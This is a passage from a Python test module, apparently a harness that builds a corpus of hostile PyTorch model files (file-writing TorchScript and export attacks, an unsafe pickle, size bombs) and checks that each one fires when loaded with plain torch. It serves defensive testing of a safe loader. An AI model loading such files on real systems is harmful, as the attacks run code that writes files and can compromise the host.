        pt2_graph_writes_file(folder),
        ts_forward_writes_file(folder), ts_forward_saves_file(folder), ts_setstate_writes_file(folder),
        *(ts_setstate_spelled(folder, s) for s in SPELLINGS),
        whole_pickle(folder),
    ]
    attacks = {a.name: a for a in built}
    assert sorted(attacks) == sorted(ALL_ATTACKS), sorted(attacks)
    for attack in attacks.values():
        attack.arm()
    return Corpus(folder, base_pt2, base_ts, attacks, bombs(folder, base_pt2, base_ts))


def plain_torch_fires(attack: Attack) -> bool:
    """Load (and, for ``plain_torch == "run"``, run) the file with plain torch; whether the evidence appeared.

    This *runs the attack*: call it only on a corpus in a scratch folder.
    """
    attack.arm()
    # Several attacks leave torch with a broken file once they have run: what counts is the evidence.
    with contextlib.suppress(Exception):
        if attack.name.startswith("ts_"):
            loaded = torch.jit.load(str(attack.path))
        elif attack.name == "whole_pickle":
            loaded = torch.load(attack.path, weights_only=False)
        else:
            loaded = torch.export.load(str(attack.path)).module()
        if attack.plain_torch == "run":
            loaded(*example_input())
    return attack.fired()


if __name__ == "__main__":  # python tests/hostile.py SCRATCH_FOLDER: rebuild, and prove every attack is real
    import logging

    logging.disable(logging.CRITICAL)  # torch logs a traceback for every weights_only fallback it takes
    corpus = build_corpus(Path(sys.argv[1]).resolve())
    for attack in corpus.attacks.values():
        print(f"{attack.name:40} {'FIRES' if plain_torch_fires(attack) else 'does not fire'} under plain torch "
              f"({attack.plain_torch})")
        attack.arm()
    for name, path in corpus.bombs.items():
        print(f"bomb {name:35} {path.stat().st_size:>9,} bytes")
